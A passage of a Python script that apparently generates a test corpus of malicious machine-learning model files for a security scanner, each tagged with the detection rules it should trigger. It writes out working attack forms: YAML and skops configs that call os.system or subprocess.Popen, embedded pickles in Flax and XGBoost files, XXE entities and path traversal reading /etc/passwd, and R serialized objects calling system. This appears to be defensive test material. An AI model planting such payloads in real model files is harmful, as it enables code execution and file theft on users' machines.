        'module': 'model: !!python/module:antigravity\n', 'target': 'model:\n  _target_: os.system\n  command: "true"\n', 'target-builtin': 'optim: {_target_: builtins.eval, _args_: ["1"]}\n',
        'target-deep': 'a:\n  - b:\n      - _target_: subprocess.Popen\n        args: ["true"]\n', 'ldm': 'model:\n  target: subprocess.Popen\n  params: {args: "true"}\n',
    }.items():
        corpus.add(f'yaml-{name}/config.yaml', data, f'YAML: {name}', REMOTE)
    corpus.add('mlflow-loader/MLmodel', 'artifact_path: model\nflavors:\n  python_function:\n    loader_module: evil_loader\n    python_version: 3.11.0\n    data: model.pkl\nmodel_uuid: 0\n', 'MLflow: a loader of its own', REMOTE)
    corpus.add('mlflow-pickle/model/python_model.pkl', pickled(call(old('cloudpickle.cloudpickle', 'subimport'), text('os'))), 'MLflow: a pickle', NAME)
    tokenizer = {'tokenizer_class': 'LlamaTokenizer', 'chat_template': TEMPLATES[1]}
    for name, value in {
        'automap/config.json': {'model_type': 'x', 'auto_map': {'AutoModel': 'modeling_x.Net'}},
        'automap-repo/config.json': {'model_type': 'x', 'auto_map': {'AutoModel': 'someone/repo--modeling_x.Net'}},
        'automap-tokenizer/tokenizer_config.json': {'auto_map': {'AutoTokenizer': ['tok.T', None]}},
        'automap-processor/preprocessor_config.json': {'auto_map': {'AutoProcessor': 'proc.P'}, 'image_processor_type': 'x'},
        'trusted/config.json': {'model_type': 'x', 'trust_remote_code': True},
        'template/tokenizer_config.json': tokenizer, 'template-list/tokenizer_config.json': {**tokenizer, 'chat_template': [{'name': 'default', 'template': TEMPLATES[1]}]},
        'shards/pytorch_model.bin.index.json': {'metadata': {}, 'weight_map': {'a': '../../../etc/passwd'}},
        'shards-tensors/model.safetensors.index.json': {'metadata': {}, 'weight_map': {'a': '/etc/passwd'}},
        'diffusers/model_index.json': {'_class_name': ['pipeline', 'EvilPipeline'], '_diffusers_version': '0.3', 'unet': ['my_unet', 'EvilUnet']},
        'sentences/modules.json': [{'idx': 0, 'name': '0', 'path': '', 'type': 'evil_package.Module'}],
        'adapter/adapter_config.json': {'peft_type': 'LORA', 'auto_mapping': {'base_model_class': 'Net', 'parent_library': 'evil_package'}, 'base_model_name_or_path': 'a/b'},
    }.items():
        rules = FILES if name.startswith('shards') else REMOTE
        corpus.add(f'config-{name}', json.dumps(value), f'configuration: {name}', rules)
    corpus.add('config-jinja/chat_template.jinja', TEMPLATES[2], 'a chat template of its own', REMOTE)
    xxe = '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    for name, body in {
        'model.pmml': '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="&x;"/></PMML>',
        'openvino.xml': '<net name="&x;" version="11"><layers/><edges/></net>', 'opencv.xml': '<opencv_storage><a>&x;</a></opencv_storage>',
    }.items():
        corpus.add(f'xml-{name}', xxe + body, f'XML with entities: {name}', [*FILES, 'code-in-model', 'unexpected-use', 'dangerous-call', *ODD])
    corpus.add('xml-utf16.pmml', (xxe.replace('"1.0"', '"1.0" encoding="UTF-16"') + '<PMML version="4.4"><Header copyright="&x;"/></PMML>').encode('utf-16'), 'XML with entities in UTF-16', [*FILES, 'code-in-model', 'dangerous-call', *ODD])
    r_objects(corpus)
    flax = b'\x81\xa1w'
    corpus.add('flax-ext.msgpack', flax + b'\xc7' + bytes([len(SHELL_PICKLE), 9]) + SHELL_PICKLE, 'Flax: a pickle in an extension', CALL)
    corpus.add('flax-bytes.msgpack', flax + b'\xc4' + bytes([len(SHELL_PICKLE)]) + SHELL_PICKLE, 'Flax: a pickle in bytes', CALL)
    corpus.add('flax-length.msgpack', flax + b'\xc6\xff\xff\xff\xff' + bytes(8), 'Flax: a length beyond the file', ODD)
    corpus.add('xgboost-bytes.ubj', b'{L\x00\x00\x00\x00\x00\x00\x00\x07learner{L\x00\x00\x00\x00\x00\x00\x00\x01aS L'[:28] + SHELL_PICKLE, 'UBJSON that breaks off into a pickle', [*CALL, *ODD])
    corpus.add('catboost-length.cbm', b'CBM1' + struct.pack('<I', 0xFFFFFFFF) + bytes(16), 'CatBoost: a length beyond the file', ODD)
    corpus.add('coreml-custom.mlmodel', field(1, 4) + field(2, field(1, field(1, 'x'))) + field(555, field(10, 'EvilModel') + field(40, 'x')), 'Core ML: a custom model', REMOTE)
    for op in ['py_func', 'load', 'save_combine']:
        program = field(1, field(1, 0) + field(2, 0) + field(4, field(3, op) + field(4, field(1, 'file_path') + field(2, 2) + field(5, '/etc/x'))))
        corpus.add(f'paddle-{op}.pdmodel', program + field(4, field(1, 0)), f'PaddlePaddle: {op}', [*REMOTE, 'file-access'])
    skops_nodes = {
        'class': {'__class__': 'Popen', '__module__': 'subprocess', '__loader__': 'ObjectNode', 'content': {}, '__id__': 1},
        'function': {'__class__': 'system', '__module__': 'os', '__loader__': 'FunctionNode', 'content': {'module_path': 'os', 'function': 'system'}, '__id__': 1},
        'method': {'__class__': 'builtin_function', '__module__': 'builtins', '__loader__': 'MethodNode', 'content': {'func': 'system', 'obj': {'__class__': 'x', '__module__': 'os', '__loader__': 'ObjectNode', 'content': {}, '__id__': 2}}, '__id__': 1},
        'operator': {'__class__': 'methodcaller', '__module__': 'operator', '__loader__': 'OperatorFuncNode', 'attrs': {'__class__': 'tuple', '__module__': 'builtins', '__loader__': 'TupleNode', 'content': [], '__id__': 2}, '__id__': 1},
        'reduce': {'__class__': 'dict', '__module__': 'builtins', '__loader__': 'ReduceNode', 'content': {'args': {'__class__': 'str', '__module__': 'builtins', '__loader__': 'JsonNode', 'content': '"true"', 'is_json': True, '__id__': 2}, 'constructor': {'__class__': 'system', '__module__': 'os', '__loader__': 'TypeNode', 'content': {'__class__': 'system', '__module__': 'os'}, '__id__': 3}}, '__id__': 1},
        'loader': {'__class__': 'dict', '__module__': 'builtins', '__loader__': 'EvilNode', 'content': {}, '__id__': 1},
        'type': {'__class__': 'type', '__module__': 'builtins', '__loader__': 'TypeNode', 'content': {'__class__': 'Popen', '__module__': 'subprocess'}, '__id__': 1},
    }
    for name, tree in skops_nodes.items():
        schema = json.dumps({**tree, 'protocol': 2, '_skops_version': '0.11.0'}).encode()
        corpus.add(f'skops-{name}.skops', zipped([Member('schema.json', schema)]), f'skops: {name}', REMOTE + ['unexpected-use', 'not-understood'])
    schema = json.dumps({'__class__': 'ndarray', '__module__': 'numpy', '__loader__': 'NdArrayNode', 'type': 'numpy', 'file': '1.npy', '__id__': 1, 'protocol': 2, '_skops_version': '0.11.0'}).encode()
    corpus.add('skops-array.skops', zipped([Member('schema.json', schema), Member('1.npy', npy('|O', (1,), SHELL_PICKLE))]), 'skops: an array of objects', CALL)


def r_objects(corpus):
    i = lambda value: struct.pack('>i', value)
    chars = lambda value: i(0x00040009) + i(len(value)) + value.encode()
    symbol = lambda name: i(1) + chars(name)
    strings = lambda value: i(16) + i(1) + chars(value)
    nil = i(254)
    language = lambda name, value: i(6) + symbol(name) + i(2) + strings(value) + nil
    start = b'X\n' + i(2) + i(0x00030605) + i(0x00020300)
    promise = lambda call_: i(0x405) + i(253) + i(252) + call_
    bound = lambda value: i(0x402) + symbol('model') + value + nil
    for name, data in {
        'promise.rds': gzip.compress(start + promise(language('system', 'true'))),
        'promise.RData': gzip.compress(b'RDX2\n' + start + bound(promise(language('system', 'true')))),
        'promise-plain.rds': start + promise(language('system', 'true')),
        'promise-xz.rds': lzma.compress(start + promise(language('system', 'true'))),
        'promise-bzip2.rds': bz2.compress(start + promise(language('eval', 'true'))),
        'language.rds': gzip.compress(start + language('system', 'true')),
    }.items():
        corpus.add(f'r-{name}', data, f'R: {name}', [*NAME, 'file-access'])


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('folder')
    options = parser.parse_args()
    os.makedirs(options.folder, exist_ok=True)
    corpus = Corpus(options.folder)
    for family in [plain, opcodes, evasions, carried_code, disguises, archives, arrays, keras, hdf5, tensorflow, onnx, others]:
        family(corpus)
    with open(os.path.join(options.folder, 'manifest.json'), 'w') as out:
        json.dump({'python': sys.version.split()[0], 'leftOut': corpus.left_out, 'malicious': FILES_WRITTEN}, out, indent=1)


if __name__ == '__main__':
    main()
